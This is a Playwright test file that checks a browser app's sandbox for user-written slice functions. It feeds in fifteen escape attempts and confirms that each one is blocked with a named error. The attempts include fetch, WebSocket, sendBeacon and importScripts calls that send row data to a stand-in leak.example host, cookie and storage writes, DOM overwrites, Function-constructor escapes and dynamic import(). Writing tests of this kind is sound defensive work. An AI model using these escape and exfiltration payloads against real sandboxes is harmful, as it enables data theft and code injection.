import { App, test, expect } from './app/index.ts';

/**
 * SF code typed into the editor tries to reach the page, storage, cookies and the network. Every
 * attempt fails with a message naming what was blocked, the page is untouched and no request leaves.
 * (Every attempt is also unit-tested in Node: src/core/slicing/sandbox.test.ts and lockdown.test.ts.)
 */
const ATTEMPTS: [sf: string, code: string, message: string][] = [
  ['leak_fetch', "fetch('https://leak.example/' + row.z0) !== null", 'fetch is blocked: SF code cannot use the network'],
  ['open_socket', "new WebSocket('wss://leak.example') !== null", 'new WebSocket is blocked: SF code cannot use the network'],
  ['xhr', 'new XMLHttpRequest() !== null', 'new XMLHttpRequest is blocked: SF code cannot use the network'],
  ['beacon', "navigator.sendBeacon('https://leak.example', 'x')", 'navigator.sendBeacon is blocked: SF code cannot use the network'],
  ['load_script', "(importScripts('https://leak.example/x.js'), true)", 'importScripts is blocked'],
  ['write_cookie', "(document.cookie = 'pwned=1') !== ''", 'document.cookie is blocked: SF code cannot read or write cookies'],
  ['write_storage', "(localStorage.setItem('pwned', '1'), true)", 'localStorage.setItem is blocked: SF code cannot use browser storage'],
  ['open_db', "indexedDB.open('pwned') !== null", 'indexedDB.open is blocked: SF code cannot use browser storage'],
  ['touch_dom', "(document.body.innerHTML = 'pwned') !== ''", 'document.body is blocked: SF code cannot reach the page'],
  ['via_window', 'window.localStorage.length > 0', 'window.localStorage is blocked: SF code cannot use browser storage'],
  ['ctor_escape', "(() => 0).constructor('return globalThis')().fetch !== undefined", 'The Function constructor is blocked'],
  ['async_escape', "(async () => 0).constructor('return fetch(1)') !== null", 'The AsyncFunction constructor is blocked'],
  ['gen_escape', "(function* () {}).constructor('yield 1') !== null", 'The GeneratorFunction constructor is blocked'],
  ['string_timer', "setTimeout('fetch(1)', 0) !== null", 'setTimeout is blocked: SF code cannot compile or schedule code'],
  ['use_eval', "eval('1') === 1", 'eval() is blocked'],
];

test('SF code cannot reach the page, storage, cookies or the network; each attempt is named', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('leak.example')) requests.push(request.url());
  });
  const app = new App(page);
  await app.open();
  const source = [
    'export const fine = (row: Row) => row.z0 > 0;',
    ...ATTEMPTS.map(([sf, code]) => `export const ${sf} = (row: Row) => ${code};`),
  ].join('\n');
  await app.editor.replaceSfSource(source + '\n');
  await app.editor.applyWithKeyboard();
  const errors = app.editor.sfErrors();
  await expect(errors).toContainText(`${ATTEMPTS.length} problems`);
  for (const [index, [sf, , message]] of ATTEMPTS.entries()) {
    const item = page.getByTestId(`slices.error.${sf}`);
    await expect(item).toContainText(`SF "${sf}" threw at row 0: ${message}`);
    await expect(item).toContainText(`line ${index + 2}`);
  }
  // The harmless SF still ran; nothing reached the page or the network.
  await expect(app.editor.sliceCount('fine')).toBeVisible();
  expect(
    await page.evaluate(() => [localStorage.getItem('pwned'), document.cookie.includes('pwned'), document.body.innerHTML === 'pwned']),
  ).toEqual([null, false, false]);
  expect(requests).toEqual([]);
});

test('dynamic import() and import.meta are rejected before anything runs, with line and column', async ({ app }) => {
  await app.open();
  await app.editor.replaceSfSource(
    "export const fine = (row: Row) => row.z0 > 0;\nexport const load = (row: Row) => import('https://leak.example/x.js') !== null;\n",
  );
  await app.editor.applyWithKeyboard();
  await expect(app.editor.sfErrors()).toContainText(
    'Dynamic import() is blocked (line 2, column 35): SF code cannot load code or reach the network',
  );
  const problem = await app.editor.firstProblem();
  expect(problem.line).toBe(2);
  await app.editor.replaceSfSource('export const where = (row: Row) => import.meta.url.length > 0;\n');
  await app.editor.applyWithKeyboard();
  await expect(app.editor.sfErrors()).toContainText('import.meta is blocked (line 1, column 36)');
});
